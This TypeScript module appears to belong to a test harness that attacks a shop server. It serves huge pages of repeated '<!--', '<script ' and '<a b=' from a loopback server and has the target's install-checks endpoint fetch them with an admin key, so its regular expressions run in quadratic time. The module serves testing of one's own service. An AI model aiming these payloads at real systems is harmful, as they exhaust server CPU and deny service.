import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Attack } from '../attack.ts'

/** Pages of 300 KB and more that regular expressions for comments or tags read in quadratic time. */
const PAGES = ['<!--'.repeat(75_000), '<script '.repeat(60_000), '<a b='.repeat(60_000)]

/** Serves the pages on this machine, which a server that runs at a loopback address may reach. */
function serve(): Promise<string> {
  let served = 0
  const server = createServer((_, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(PAGES[served++ % PAGES.length])
  }).unref()
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`))
  })
}

export const pages: Attack = {
  name: 'pages',
  about: 'a key of the shop, two connections: checks of pages of comments and tags that do not end',
  connections: 2,
  async open({ base, fixture }) {
    const url = await serve()
    const headers = { authorization: fixture.adminApiKey, 'content-type': 'application/json' }
    return () => fetch(`${base}/awning/v1/install-checks`, { method: 'POST', headers, body: JSON.stringify({ url }) })
  },
}
